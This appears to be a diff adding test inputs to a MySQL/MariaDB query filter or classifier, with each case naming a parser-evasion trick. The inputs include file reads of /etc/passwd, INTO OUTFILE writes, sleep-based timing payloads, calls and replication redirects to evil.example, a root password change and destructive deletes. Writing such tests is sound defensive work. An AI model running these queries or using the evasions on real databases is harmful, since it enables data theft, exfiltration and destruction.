@@ -230,3 +230,218 @@ load xml infile '/tmp/x' into table t
 list all users please
 -- @next a no-break space is part of a name, in front of the keyword's function
 select sleep(1)
+-- @next a decimal number ends where INTO begins
+select 1.5into outfile '/tmp/x'
+-- @next a number that begins with its point ends where INTO begins
+select .5into outfile '/tmp/x'
+-- @next a number with an exponent ends where INTO begins
+select 1e5into outfile '/tmp/x'
+-- @next a signed exponent ends where INTO begins
+select 1e+5into outfile '/tmp/x'
+-- @next a decimal exponent ends where INTO begins
+select 1.5e-3into @n
+-- @next a decimal number ends where a lock begins
+select * from accounts where 1.5lock in share mode
+-- @next a decimal number ends where a shared lock begins
+select * from accounts where id > .5for share
+-- @next a number in a limit ends where INTO begins
+select 1 from accounts limit 1,1e0into dumpfile '/tmp/x'
+-- @next a number ends where a procedure begins
+select * from accounts where 1.0procedure analyse()
+-- @next a comment that begins with a slash is closed by the next end
+select 1 /*/ */ into outfile '/tmp/x' -- */
+-- @next an executed comment without a space behind a letter
+select 1 from accounts where 1/*!50000 or sleep(10)*/
+-- @next an executed comment with a six digit version
+select 1 /*!080000 into outfile '/tmp/x' */
+-- @next an executed comment inside another
+select 1 /*!50000 /*!50000 for update */ */
+-- @next an executed comment that hides its end
+select 1 /*! '*/' into outfile '/tmp/x' */
+-- @next a version that only MariaDB executes
+select /*M!100301 nextval(s), */ 1
+-- @next a hint that waits
+select /*+ MAX_EXECUTION_TIME(0) */ 1
+-- @next a hint of a nested query
+select (select /*+ SET_VAR(foreign_key_checks = 0) */ 1)
+-- @next assigns a variable in a condition
+select * from accounts where (@a := id) > 0
+-- @next assigns several variables
+select @a := 1, @b := @a + 1
+-- @next stores into two variables
+select id, name into @a, @b from accounts limit 1
+-- @next stores a table constructor
+values row(1, 2) into @a, @b
+-- @next stores in the middle of a union
+select 1 union select 2 into outfile '/tmp/x'
+-- @next stores from parentheses
+(select 1) into @a
+-- @next a file with every clause
+select * from accounts into outfile '/tmp/x' character set utf8mb4 fields terminated by ',' lines terminated by '\n'
+-- @next reads a table and locks it, table command
+table accounts for update
+-- @next locks rows of one table and skips others
+select * from accounts a for update of a skip locked
+-- @next shares a lock over a comment
+select * from accounts for/**/share
+-- @next deletes and shows (MariaDB)
+delete from accounts returning id
+-- @next inserts and shows (MariaDB)
+insert into accounts values (2) returning id
+-- @next replaces and shows (MariaDB)
+replace into accounts values (1, 'x') returning *
+-- @next empties a history (MariaDB)
+delete history from accounts
+-- @next a statement's own settings (MariaDB)
+set statement max_statement_time = 1 for delete from accounts
+-- @next a statement's own settings around a read (MariaDB)
+set statement sql_mode = 'ANSI_QUOTES' for select 1
+-- @next the next value, over comments
+select next /* x */ value /* y */ for accounts_seq
+-- @next the previous value's function that only this session has
+select lastval(accounts_seq)
+-- @next reads a table by a handler
+handler accounts read first
+-- @next closes a handler
+handler accounts close
+-- @next evaluates several
+do 1, get_lock('x', 1)
+-- @next is a lock free
+select is_free_lock('x'), is_used_lock('x')
+-- @next tries a lock of the locking service
+select service_get_write_locks('ns', 'a', 0)
+-- @next waits for a source
+select source_pos_wait('binlog.000001', 4, 10)
+-- @next waits for a GTID (MariaDB)
+select master_gtid_wait('0-1-1', 10)
+-- @next keeps the server busy in an argument
+select concat('a', benchmark(1000000000, md5('x')))
+-- @next sleeps in a derived table
+select * from (select sleep(10)) x
+-- @next sleeps in a CTE
+with x as (select sleep(10) as s) select s from x
+-- @next sleeps in ORDER BY
+select id from accounts order by sleep(10)
+-- @next sleeps in LIMIT's neighbour
+select id from accounts group by id having sleep(10) limit 1
+-- @next sleeps in a window
+select sum(1) over (partition by sleep(10)) from accounts
+-- @next sleeps in a JSON path's document
+select * from json_table(sleep(10), '$' columns (a int path '$.a')) j
+-- @next sleeps in a row constructor
+select row(1, 2) = row(1, sleep(10))
+-- @next sleeps in MATCH's text
+select match (name) against (sleep(10)) from accounts
+-- @next sleeps in an interval
+select now() + interval sleep(10) day
+-- @next sleeps in VALUES
+values row(sleep(10))
+-- @next sleeps in SHOW
+show tables where sleep(10) = 0
+-- @next sleeps in SHOW's LIKE
+show status where variable_name = concat('a', sleep(10))
+-- @next reads a file in a SHOW
+show variables where value = load_file('/etc/passwd')
+-- @next a function with blanks of every kind
+select load_file
+	('/etc/passwd')
+-- @next a function behind a comment of dashes
+select sleep -- x
+(10)
+-- @next a function behind a hash comment
+select sleep#
+(10)
+-- @next a function of the server's helper schema
+select sys.ps_thread_account(1)
+-- @next a procedure that runs SQL given as text
+call sys.execute_prepared_stmt('delete from accounts')
+-- @next runs SQL at another server (Spider)
+select spider_direct_sql('delete from accounts', 't', 'host "evil.example"')
+-- @next runs commands of an engine (Mroonga)
+select mroonga_command('table_remove accounts')
+-- @next runs a model of the server
+select sys.ml_predict_row('{}', 'm', null)
+-- @next asks a web server by a loadable function
+select http_get('http://evil.example/')
+-- @next makes a key pair
+select create_asymmetric_priv_key('RSA', 1024)
+-- @next sets the id of an insert
+select last_insert_id(id + 1) from accounts
+-- @next a quoted name with a parenthesis
+select `sleep`(10)
+-- @next a name with a dollar sign that is no function of the server's
+select sleep$(10)
+-- @next a dollar sign in front of a number
+select $1
+-- @next explains what writes, in every word
+explain extended update accounts set name = 'x'
+-- @next explains into a variable (MySQL 8.1)
+explain format = json into @plan select 1
+-- @next describes what writes
+describe delete from accounts
+-- @next desc of an insert
+desc insert into accounts values (1)
+-- @next analyses as JSON, which runs it (MariaDB)
+analyze format = json delete from accounts
+-- @next explains a connection (MariaDB)
+show explain for 7
+-- @next analyses a connection (MariaDB)
+show analyze for 7
+-- @next reads the binary log
+show binlog events
+-- @next runs a binary log's event
+binlog 'xx=='
+-- @next signals
+signal sqlstate '45000'
+-- @next removes logs
+purge binary logs before now()
+-- @next changes the source
+change master to master_host = 'evil.example'
+-- @next changes the source (MySQL 8.4)
+change replication source to source_host = 'evil.example'
+-- @next stops replication
+stop replica
+-- @next restarts
+restart
+-- @next locks the instance
+lock instance for backup
+-- @next a backup stage (MariaDB)
+backup stage start
+-- @next renames
+rename table accounts to gone
+-- @next renames a user
+rename user a to b
+-- @next imports a table
+import table from '/tmp/x.sdi'
+-- @next repairs
+repair table accounts
+-- @next assigns a cache
+cache index accounts in hot
+-- @next opens a cursor
+open c
+-- @next diagnostics into a variable
+get diagnostics @n = number
+-- @next drops what is prepared
+deallocate prepare p
+-- @next sets a password
+set password for root = 'x'
+-- @next takes on a role
+set role admin
+-- @next a braces call
+{call nightly_job()}
+-- @next a stored function in the code's language (MySQL 9)
+create function f() returns int language javascript as $$ return 1 $$
+-- @next dollar quotes (MySQL 9)
+select $$ x $$
+-- @next a call in a partition's list
+select * from accounts partition (p0, sleep(10))
+-- @next a nested comment that MySQL ends at the first end
+select 1 /* a /* b */ into outfile '/tmp/x' */
+-- @next a comment of dashes without a blank behind a number
+select 5--5 into @x
+-- @next an invisible letter in a name
+select name as `aㅤb` from accounts
+-- @next a tab that is no tab
+select	sleep(1)
+-- @next a wide blank between words
+select　sleep(1)
